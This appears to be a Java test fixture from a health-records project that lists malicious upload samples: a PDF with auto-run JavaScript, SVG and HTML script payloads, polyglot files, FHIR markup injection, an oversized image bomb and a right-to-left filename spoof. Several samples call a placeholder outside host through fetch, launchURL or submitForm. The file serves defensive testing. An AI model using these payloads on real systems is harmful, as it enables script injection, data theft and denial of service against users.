// SPDX-License-Identifier: Apache-2.0
package org.carevault.journeys;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import org.carevault.journeys.machine.Stranger;

/** Documents that try to do something: each marks the page that runs it, and asks a stranger's server. */
enum MaliciousDocument {
    PDF_WITH_A_SCRIPT("report.pdf", "application/pdf", """
            %PDF-1.7
            1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 4 0 R >> >> endobj
            2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
            3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /AA << /O 4 0 R >> >> endobj
            4 0 obj << /S /JavaScript /JS (app.alert('touched'); app.launchURL('STRANGER'); this.submitForm('STRANGER')) >> endobj
            trailer << /Root 1 0 R >>
            """),
    SVG_WITH_A_SCRIPT("picture.svg", "image/svg+xml", """
            <svg xmlns="http://www.w3.org/2000/svg" onload="window.touched=1">
              <script>window.touched = 1; top.touched = 1; fetch('STRANGER')</script>
              <image href="STRANGERa.png" onerror="window.touched=1"/>
            </svg>
            """),
    HTML_THAT_CALLS_ITSELF_A_PICTURE("picture.png", "image/png", """
            <!doctype html><script>window.touched = 1; top.touched = 1</script>
            <img src="STRANGERa.png" onerror="window.touched=1"><iframe src="STRANGER"></iframe>
            """),
    FHIR_WITH_MARKUP_IN_ITS_TEXT("bundle.json", "application/fhir+json", """
            {"resourceType":"Bundle","type":"document","entry":[{"resource":{"resourceType":"Condition",
            "text":{"status":"generated","div":"<div><img src='STRANGERa.png' onerror='window.touched=1'></div>"},
            "code":{"text":"<img src=x onerror='window.touched=1'>asthma"}}}]}
            """),
    PDF_THAT_IS_HTML_AS_WELL("report.html", "text/html", """
            %PDF-1.7 <!doctype html><script>window.touched = 1; top.touched = 1; fetch('STRANGER')</script>
            <img src="STRANGERa.png" onerror="window.touched=1">
            """),
    A_PICTURE_THAT_IS_A_SCRIPT_AS_WELL("picture.gif", "text/javascript", """
            GIF89a/*<svg onload="window.touched=1">*/=1; window.touched = 1; top.touched = 1; fetch('STRANGER')
            """),
    A_PICTURE_OF_A_THOUSAND_MILLION_DOTS("picture.png", "image/png", LargePicture.of(32_000, 32_000)),
    A_TITLE_THAT_TURNS_THE_LINE_AROUND("fdp.\u202Etropér.pdf", "application/pdf", "%PDF-1.4\n\u202Enothing to see");

    private final String fileName;
    private final String type;
    private final byte[] content;

    MaliciousDocument(String fileName, String type, String content) {
        this(fileName, type, content.getBytes(UTF_8));
    }

    MaliciousDocument(String fileName, String type, byte[] content) {
        this.fileName = fileName;
        this.type = type;
        this.content = content;
    }

    String fileName() {
        return fileName;
    }

    String type() {
        return type;
    }

    /** As it is when this stranger has sent it. */
    byte[] bytes(Stranger stranger) {
        var text = new String(content, ISO_8859_1);
        return text.replace("STRANGER", stranger.url()).getBytes(ISO_8859_1);
    }
}
